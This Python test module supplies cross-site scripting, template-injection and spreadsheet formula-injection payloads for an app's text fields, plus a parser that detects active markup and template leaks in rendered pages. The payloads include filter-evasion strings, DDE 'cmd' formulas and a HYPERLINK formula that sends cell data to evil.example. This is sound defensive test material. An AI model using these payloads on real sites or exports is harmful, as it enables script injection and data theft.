"""Script-injection payloads for the text fields of this app, and a check for them.

Every payload that runs code sets `window.__xss` or opens a dialog, so a browser
test sees it happen. `find_active_markup` finds what a payload could have made
active in a page: scripts, event handlers, script URLs, embedding elements.
"""

import html
import re
from dataclasses import dataclass
from html.parser import HTMLParser

# A template engine that evaluates a probe prints this number or the app's config.
TEMPLATE_RESULT = "54439"
TEMPLATE_LEAKS = (TEMPLATE_RESULT, "SECRET_KEY", "&lt;Config", "<Config")


@dataclass(frozen=True)
class Payload:
    """One attack string; `kind` says how it would become active if left alone."""

    text: str
    kind: str  # html, markdown, evasion, template, encoded, formula or url

    def __str__(self) -> str:
        return self.text


def _payloads(kind: str, *texts: str) -> list[Payload]:
    return [Payload(text, kind) for text in texts]


PAYLOADS: list[Payload] = [
    # Script elements, in the shapes filters tend to miss.
    *_payloads(
        "html",
        "<script>window.__xss=1</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<ScRiPt type='text/javascript'>window.__xss=2</sCrIpT>",
        "<script src=data:text/javascript,window.__xss=3></script>",
        "<script>window.__xss=4</script >",
        "<script>window.__xss=5<!--",
        "</textarea><script>window.__xss=7</script>",
        "</title><script>window.__xss=8</script>",
        "<<script>window.__xss=9//<</script>",
        # Event handlers, with and without a user's help.
        "<img src=x onerror=window.__xss=10>",
        "<IMG SRC=/ onerror='alert(1)'>",
        "<img src=x onerror=&#x61;lert(1)>",
        "<body onload=window.__xss=11>",
        "<input autofocus onfocus=window.__xss=12>",
        "<details open ontoggle=window.__xss=13>",
        "<div onmouseover=window.__xss=14 style=position:fixed;inset:0>hover</div>",
        "<a href=# onclick=window.__xss=15>klik</a>",
        "<video><source onerror=window.__xss=16></video>",
        "<marquee onstart=window.__xss=17>",
        # SVG and MathML.
        "<svg onload=window.__xss=18>",
        "<svg><script>window.__xss=19</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=window.__xss=20 attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=21>",
        # Embedding elements and styles.
        "<iframe src=javascript:window.top.__xss=22></iframe>",
        "<iframe srcdoc='<script>parent.__xss=23</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=data:text/html,<script>alert(1)</script>>",
        "<style>@import 'javascript:alert(1)';</style>",
        '<div style="background:url(javascript:alert(1));width:expression(alert(1))">',
        "<base href=javascript:alert(1)//>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<form action=javascript:alert(1)><button>ok</button></form>",
        '<a href="javascript:alert(1)">link</a>',
        '<a href="&#x6A;avascript:window.__xss=24">link</a>',
        '<a href="jav&#x09;ascript:alert(1)">link</a>',
        '<a href=" vbscript:msgbox(1)">link</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        "<a href=x hx-get=/logout hx-trigger=load>htmx</a>",
        "<div hx-on:click=window.__xss=25>htmx</div>",
        # Breaking out of an attribute the text may land in.
        '"><svg onload=window.__xss=26>',
        "'><img src=x onerror=window.__xss=27>",
        '" autofocus onfocus="window.__xss=28',
        "' onmouseover='window.__xss=29",
        "</script><script>window.__xss=30</script>",
    ),
    # Markdown that renders to a script link, an image or a raw block.
    *_payloads(
        "markdown",
        "[klik](javascript:window.__xss=31)",
        "[klik](JaVaScRiPt:alert(1))",
        "[klik](&#x6A;avascript:alert(1))",
        "[klik](javascript&#58;alert(1))",
        "![plaatje](javascript:alert(1))",
        'Tekst met *nadruk* <img src="x" onerror="window.__xss=44"> erin',
        "[klik](data:text/html,<script>alert(1)</script>)",
        "[klik](vbscript:msgbox(1))",
        "[klik][ref]\n\n[ref]: javascript:window.__xss=32",
        "<div>\n<script>window.__xss=33</script>\n</div>",
        '[<img src="x" onerror="window.__xss=35">](https://example.org)',
        '| a |\n| - |\n| <img src="x" onerror="window.__xss=36"> |',
    ),
    # Inert as typed: active only behind a filter that strips `<script>` once, or
    # a Markdown that turned any scheme into an autolink or let code out.
    Payload("<scr<script>ipt>window.__xss=6</scr</script>ipt>", "evasion"),
    Payload("<javascript:alert(1)>", "evasion"),
    Payload("```\n</code></pre><script>window.__xss=34</script>\n```", "evasion"),
    # Template syntax must come out as typed.
    *_payloads(
        "template",
        "{{ 7777*7 }}",
        "{% print(7777*7) %}",
        "${7777*7}",
        "{{ config }}",
        "#{7777*7} <%= 7777*7 %>",
    ),
    # Encoded text must show as typed, never decode into markup.
    *_payloads(
        "encoded",
        "&lt;script&gt;window.__xss=37&lt;/script&gt;",
        "%3Cscript%3Ewindow.__xss=38%3C/script%3E",
        "\\u003cscript\\u003ewindow.__xss=39\\u003c/script\\u003e",
        "<scr\u0000ipt>window.__xss=40</script>",
    ),
    # Spreadsheet formulas in exports.
    *_payloads(
        "formula",
        '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ),
]

# Values for fields that must hold a URL.
URL_PAYLOADS: list[Payload] = _payloads(
    "url",
    "javascript:window.__xss=41",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://example.org/"><script>window.__xss=42</script>',
    "https://example.org/' onmouseover='window.__xss=43",
)

SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
    "content",
}
# Elements that load or run something by themselves; forms, inputs and images
# only turn active through the attributes checked below.
EMBEDDING_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "svg",
    "math",
    "style",
    "meta",
    "link",
    "marquee",
}
# Browsers drop these from a URL before they read its scheme.
IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]+")
NUMBERS = re.compile(r"\d+")


def script_url(value: str) -> bool:
    """Whether a URL attribute would run script once a browser decodes it."""
    decoded = IGNORED_IN_URLS.sub("", html.unescape(value)).lower()
    return decoded.startswith(SCRIPT_SCHEMES) or "javascript:" in decoded


class _ActiveMarkup(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)

    def _element(self, tag, attrs):
        # Ids and counters differ between pages of the same kind; the shape stays.
        shape = NUMBERS.sub("#", " ".join(f"{k}={v}" for k, v in sorted(attrs)))
        if tag == "script":
            self._script = [f"<script {shape}>"]
        elif tag in EMBEDDING_TAGS:
            self.found.append(f"<{tag} {shape}>")
        for name, value in attrs:
            value = value or ""
            handler = name.startswith("on")
            if handler or (name in URL_ATTRIBUTES and script_url(value)):
                self.found.append(f"<{tag} {name}={value}>")
            elif name == "hx-headers":
                # The page's own CSRF header; its token changes every second.
                continue
            elif name.startswith(("hx-", "data-hx")):
                self.found.append(f"<{tag} {name}={NUMBERS.sub('#', value)}>")
            elif name == "style" and re.search(r"expression|url\s*\(", value, re.I):
                self.found.append(f"<{tag} style={value}>")

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(NUMBERS.sub("#", data))

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.found.append("".join(self._script))
            self._script = None

    def close(self):
        super().close()
        if self._script is not None:
            self.found.append("".join(self._script))


def active_markup(page: str) -> set[str]:
    """Return the scripts, handlers, script URLs and embeddings in an HTML page."""
    parser = _ActiveMarkup()
    parser.feed(page)
    parser.close()
    found = set(parser.found)
    found.update(f"template result {leak}" for leak in TEMPLATE_LEAKS if leak in page)
    return found


def find_active_markup(page: str, baseline: str) -> set[str]:
    """Return the active markup of the page that the page without payloads lacks."""
    return active_markup(page) - active_markup(baseline)
